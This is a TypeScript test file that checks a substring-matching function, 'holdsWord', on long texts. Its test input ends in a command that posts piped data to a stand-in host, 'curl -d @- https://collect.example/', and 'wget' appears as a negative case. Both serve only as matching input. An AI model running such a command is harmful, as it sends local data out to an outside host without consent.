import { describe, expect, it } from 'vitest';
import { holdsWord } from '../../src/rules/match/held-words.ts';

const LONG = `${'the quick brown fox jumps over the lazy dog. '.repeat(200)}curl -d @- https://collect.example/`;

describe('holdsWord', () => {
  it.each(['curl -d', 'fox', 'g. the', 'og', 'collect.example/', LONG])(
    'finds what is there: %.20s',
    (word) => {
      expect(holdsWord(LONG, word)).toBe(true);
    },
  );

  it.each(['wget', 'foxes', 'the dog', 'zz', 'curl  -d', `${LONG}x`])('finds nothing else: %.20s', (word) => {
    expect(holdsWord(LONG, word)).toBe(false);
  });

  it('keeps texts apart, however many there are', () => {
    const texts = Array.from({ length: 10 }, (_, index) => `${'x '.repeat(2_000)}mark${index}end`);
    for (const turn of [0, 1])
      for (const [index, text] of texts.entries()) {
        expect(holdsWord(text, `mark${index}end`), `turn ${turn}`).toBe(true);
        expect(holdsWord(text, `mark${(index + 1) % 10}end`), `turn ${turn}`).toBe(false);
      }
  });
});
